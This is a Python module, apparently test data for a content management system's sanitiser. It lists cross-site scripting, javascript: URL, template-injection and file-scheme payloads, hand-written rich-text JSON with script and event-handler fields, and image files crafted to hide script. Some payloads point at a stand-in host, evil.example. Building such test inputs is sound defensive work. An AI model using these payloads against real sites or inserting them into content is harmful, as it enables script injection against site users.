"""What somebody might put into a page to make it run, load or show what no editor may: by the way in."""

import gzip
import json
import zlib
from io import BytesIO
from struct import pack
from typing import Any

from PIL import Image

MARK = "alert(4711)"

# Into fields of plain words: titles, headings, summaries, descriptions.
WORDS = [
    f"<script>{MARK}</script>",
    f"<ScRiPt >{MARK}</sCrIpT >",
    f"</script><script>{MARK}</script>",
    f"</title><script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"<svg onload={MARK}>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<body onload={MARK}>",
    f'"><script>{MARK}</script>',
    f"'><img src=x onerror={MARK}>",
    f'" autofocus onfocus={MARK} x="',
    f"<iframe srcdoc='<script>{MARK}</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=code></form>",
    "<style>@import 'https://evil.example/x.css'</style>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
    f"<template><script>{MARK}</script></template>",
    "{{ 7*191 }}{% raw %}{{ config }}{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"\u202e<script>{MARK}</script>",
    f"＜script＞{MARK}＜/script＞",
]  # fmt: skip

# Into the address of a link.
ADDRESSES = [
    f"javascript:{MARK}",
    f"JaVaScRiPt:{MARK}",
    f"java\tscript:{MARK}",
    f"java\nscript:{MARK}",
    f"java\x00script:{MARK}",
    f" javascript:{MARK}",
    f"\x01javascript:{MARK}",
    f"\u00a0javascript:{MARK}",
    f"\u2028javascript:{MARK}",
    f"javascript&colon;{MARK}",
    f"javascript&#58;{MARK}",
    f"&#106;avascript:{MARK}",
    f"javascript://https://example.org/%0a{MARK}",
    f"vbscript:{MARK}",
    f"data:text/html,<script>{MARK}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg0NzExKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={MARK}>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "filesystem:https://evil.example/x",
    f"view-source:javascript:{MARK}",
    "intent://evil#Intent;scheme=https;end",
    f'https://example.org/" onmouseover="{MARK}',
    f"https://example.org/'><script>{MARK}</script>",
]  # fmt: skip


def contentstate(text: str = "Words", **more: Any) -> str:
    """What the editor of rich text sends: its own JSON, which a hand can write too."""
    block = {"key": "a", "text": text, "type": "unstyled", "depth": 0, "inlineStyleRanges": [], "entityRanges": []}
    entities = more.pop("entities", {})
    return json.dumps({"blocks": [block | more], "entityMap": entities})


def linked(kind: str, **data: Any) -> str:
    """Words with something behind them, as the editor of rich text sends it."""
    return contentstate(
        entityRanges=[{"offset": 0, "length": 5, "key": 0}],
        entities={"0": {"type": kind, "mutability": "MUTABLE", "data": data}},
    )


def alone(kind: str, **data: Any) -> str:
    """Words, and below them a thing that stands by itself, such as a picture or a film."""
    thing = json.loads(linked(kind, **data))
    thing["blocks"][0] |= {"text": " ", "type": "atomic", "entityRanges": [{"offset": 0, "length": 1, "key": 0}]}
    return json.dumps(thing | {"blocks": [json.loads(contentstate())["blocks"][0], *thing["blocks"]]})


# Into rich text, as JSON that was written by hand.
RICH = [
    alone("EMBED", url="https://evil.example/film", html=f"<script>{MARK}</script>", providerName="x"),
    alone("IMAGE", id=1, src=f"x\" onerror=\"{MARK}", alt=f'"><script>{MARK}</script>', format="left"),
    alone("HORIZONTAL_RULE"),
    alone("DOCUMENT", id=1, url=f"javascript:{MARK}", filename="x"),
    alone("RAW_HTML", html=f"<script>{MARK}</script>"),
    alone("TABLE", html=f"<td onclick={MARK}>"),
    linked("DOCUMENT", id=1, url=f"javascript:{MARK}"),
    linked("EMBED", url="https://evil.example/film", html=f"<script>{MARK}</script>"),
    linked("LINK", url="https://example.org/", onclick=MARK, style="position:fixed"),
    linked("LINK", url="https://example.org/", linktype=f'"><script>{MARK}</script>'),
    linked("LINK", url=None, id=f'1"><script>{MARK}</script>', parentId=1),
    linked("script", src="https://evil.example/x.js"),
    contentstate(type="header-one"),
    contentstate(type="code-block", text=f"<script>{MARK}</script>"),
    contentstate(type=f"x><script>{MARK}</script>"),
    contentstate(inlineStyleRanges=[{"offset": 0, "length": 5, "style": "CODE"}]),
    contentstate(inlineStyleRanges=[{"offset": 0, "length": 5, "style": f"x onclick={MARK}"}]),
    contentstate(key=f'"><script>{MARK}</script>'),
    contentstate(data={"style": "position:fixed", "onclick": MARK}),
    "null",
    "[]",
    "{}",
    f"<p>{MARK}</p><script>{MARK}</script>",
    '{"blocks": [{"text": 1}], "entityMap": []}',
]  # fmt: skip

# Kinds of blocks that there are none of.
BLOCKS = ["raw_html", "html", "table", "embed", "static", "document", "snippet", "script", "__class__", ""]


def _png(*, after: bytes = b"", chunk: bytes = b"") -> bytes:
    out = BytesIO()
    Image.new("RGB", (4, 4), "teal").save(out, "PNG")
    whole = out.getvalue()
    if chunk:
        made = b"tEXt" + chunk
        whole = whole[:33] + pack(">I", len(chunk)) + made + pack(">I", zlib.crc32(made)) + whole[33:]
    return whole + after


def _jpeg(comment: bytes) -> bytes:
    out = BytesIO()
    Image.new("RGB", (4, 4), "teal").save(out, "JPEG", comment=comment)
    return out.getvalue()


def _other(kind: str) -> bytes:
    out = BytesIO()
    Image.new("RGB", (4, 4), "teal").save(out, kind)
    return out.getvalue()


_SCRIPT = f"<script>{MARK}</script>".encode()
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{MARK}'/>".encode()

# Into the library of pictures: the name, and what is in the file.
PICTURES: dict[str, bytes] = {
    "drawing.svg": _SVG,
    "drawing.svgz": gzip.compress(_SVG),
    "svg as.png": _SVG,
    "svg as.jpg": b"<?xml version='1.0'?>" + _SVG,
    "page as.png": b"<!DOCTYPE html>" + _SCRIPT,
    "script as.jpg": b"\xff\xd8\xff/*" + _SCRIPT + b"*/",
    "script behind a picture.png": _png(after=_SCRIPT),
    "script in a chunk.png": _png(chunk=b"Comment\0" + _SCRIPT),
    "script in a comment.jpg": _jpeg(_SCRIPT),
    "archive behind a picture.png": _png(after=b"PK\x03\x04" + _SCRIPT),
    "moving and a script.gif": b"GIF89a/*" + _SCRIPT + b"*/",
    "gif as.png": _other("GIF") + _SCRIPT,
    "bmp as.jpg": _other("BMP") + _SCRIPT,
    "tiff as.jpg": _other("TIFF") + _SCRIPT,
    "icon as.png": _other("ICO") + _SCRIPT,
    "paper as.jpg": b"%PDF-1.7 " + _SCRIPT,
    "postscript as.jpg": b"%!PS-Adobe-3.0 EPSF-3.0 " + _SCRIPT,
}


def count() -> int:
    """How many tries there are: an address is tried in two kinds of link."""
    return len(WORDS) + 2 * len(ADDRESSES) + len(RICH) + len(BLOCKS) + len(PICTURES)
